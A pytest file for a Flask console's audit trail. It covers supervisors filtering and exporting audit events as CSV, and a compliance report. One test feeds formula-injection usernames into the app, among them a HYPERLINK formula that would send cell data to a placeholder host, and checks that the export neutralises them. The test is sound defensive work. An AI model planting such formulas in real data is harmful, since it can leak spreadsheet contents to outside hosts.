"""Supervisors filter and export the audit trail; admins manage accounts."""

from __future__ import annotations

import csv
import io

import pytest
from flask.testing import FlaskClient
from sqlalchemy import select

from models import AuditEvent, OfficerRole
from services.runtime import Runtime
from tests.support.console import login, make_officer, post, signed_in, waiting_victim

# Both databases: filters by time in SQL.
pytestmark = pytest.mark.both_databases


def test_filter_and_export_the_trail(
    client: FlaskClient, auth: dict[str, str], rt: Runtime
) -> None:
    conversation_id, _ = waiting_victim(client, auth, rt, "+447700900451")
    make_officer(rt, "alys")
    login(client, "alys")
    client.get(f"/console/conversations/{conversation_id}")
    post(client, "/console/logout")
    signed_in(client, rt, "huw", OfficerRole.SUPERVISOR)

    page = client.get("/console/audit?actor=alys&action=view_conversation").get_data(as_text=True)
    assert "1 events." in page and "view_conversation" in page
    export = client.get("/console/audit.csv?actor=alys")
    assert export.status_code == 200 and export.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(export.get_data(as_text=True))))
    assert [r["action"] for r in rows] == ["login", "view_conversation", "view_queue", "logout"]
    assert rows[1]["conversation_id"] == str(conversation_id) and rows[1]["victim_id"]
    assert rows[0]["at"].endswith("Z")
    with rt.db.session() as session:
        exported = session.scalars(
            select(AuditEvent).where(AuditEvent.action == "export_audit")
        ).all()
        assert [e.actor for e in exported] == ["huw"]
    empty = client.get("/console/audit?since=2001-01-01&until=2001-01-02").get_data(as_text=True)
    assert "0 events." in empty


def test_compliance_report_page_and_csv(client: FlaskClient, rt: Runtime) -> None:
    signed_in(client, rt, "huw", OfficerRole.SUPERVISOR)
    page = client.get("/console/reports/compliance?start=2026-11-01&end=2026-11-27")
    assert page.status_code == 200 and b"Download as CSV" in page.data
    export = client.get("/console/reports/compliance?start=2026-11-01&end=2026-11-27&format=csv")
    assert export.status_code == 200 and export.mimetype == "text/csv"


def test_a_formula_typed_as_a_username_is_exported_as_text(
    client: FlaskClient, rt: Runtime
) -> None:
    """The issue's example: `=HYPERLINK(...)` typed at sign-in, then exported by a supervisor."""
    typed = [
        '=HYPERLINK("http://example.invalid/?x="&A1,"open")',
        "\t=1+1",
        "\r=1+1",
        "\uff1dHYPERLINK(1)",
        "@SUM(1)",
    ]
    for username in typed:
        login(client, username, "not a password at all", code="")
    signed_in(client, rt, "huw", OfficerRole.SUPERVISOR)
    export = client.get("/console/audit.csv?action=login_failed").get_data(as_text=True)
    actors = [r["actor"] for r in csv.DictReader(io.StringIO(export))]
    assert len(actors) == len(typed)
    for actor in actors:
        assert actor.startswith("'"), actor
    assert {a[1:] for a in actors} == {t.strip().lower()[:64] for t in typed}
